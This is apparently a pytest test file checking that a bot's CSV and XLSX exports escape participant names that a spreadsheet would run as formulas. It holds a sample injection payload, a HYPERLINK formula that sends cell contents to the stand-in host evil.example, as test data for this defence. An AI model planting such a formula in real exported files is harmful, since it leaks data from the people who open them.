"""Names people chose end up in spreadsheets coordinators open: none may run there as a formula."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from bot import reserve
from bot.i18n import I18n
from bot.spreadsheets import cell_text
from storage.placings import Leader

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Анна")'


@pytest.mark.parametrize("text", [FORMULA, "+7(999)", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_a_spreadsheet_would_run_is_kept_as_text(text: str) -> None:
    assert cell_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Анна", "Анна-Мария", "O'Brien", "", "1 = 1"])
def test_ordinary_names_are_unchanged(text: str) -> None:
    assert cell_text(text) == text


def test_the_reserve_files_keep_a_formula_name_as_text() -> None:
    t = I18n("ru").get("ru")
    leader = Leader(place=1, member_id=7, name=FORMULA, username="anna", phone="+79991234567", district="=1+1",
                    city="Новосибирск", units=120)
    row = list(csv.reader(io.StringIO(reserve.to_csv(t, [leader]).decode("utf-8-sig"))))[1]
    assert row[1] == "'" + FORMULA and row[2] == "'=1+1"
    sheet = openpyxl.load_workbook(io.BytesIO(reserve.to_xlsx(t, [leader], title="Резерв"))).active
    assert sheet is not None
    assert sheet["B2"].value == "'" + FORMULA and sheet["B2"].data_type == "s"
    assert sheet["G2"].value == "+79991234567"        # a phone number stays as it is
